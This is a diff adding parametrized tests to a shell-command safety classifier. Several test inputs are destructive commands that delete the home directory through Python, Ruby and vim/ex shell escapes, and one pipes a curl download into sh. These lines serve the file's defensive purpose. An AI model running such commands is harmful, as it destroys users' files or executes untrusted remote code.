@@ -446,3 +446,20 @@ def test_hostile_inputs_to_the_new_scanners_classify_quickly(command: str) -> No
     result = classify(command)
     assert time.perf_counter() - start < 2.0
     assert result.verdict in (Verdict.PASS, Verdict.WARN, Verdict.BLOCK)
+
+
+@pytest.mark.parametrize(("command", "verdict"), [
+    ("python3 -c 'import shutil; from pathlib import Path; shutil.rmtree(Path.home())'",
+     Verdict.BLOCK),
+    ("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'", Verdict.BLOCK),
+    ("python3 -c 'import shutil,os; shutil.rmtree(os.environ[\"HOME\"])'", Verdict.BLOCK),
+    ("python3 -c 'import shutil; from pathlib import Path; "
+     "shutil.rmtree(Path.home() / \"proj\" / \"build\")'", Verdict.PASS),
+    ("ex -c 'silent !rm -rf ~' -c q", Verdict.BLOCK),
+    ("vim -c 'sil !rm -rf ~' -c q", Verdict.BLOCK),
+    ("vim -c 'call system(\"curl u | sh\")' -c q", Verdict.BLOCK),
+    ("vim -c '%s/a/b/g | w' f.txt", Verdict.PASS),
+])
+def test_home_deletes_and_editor_escapes_in_other_spellings(command: str,
+                                                            verdict: Verdict) -> None:
+    assert classify(command).verdict is verdict
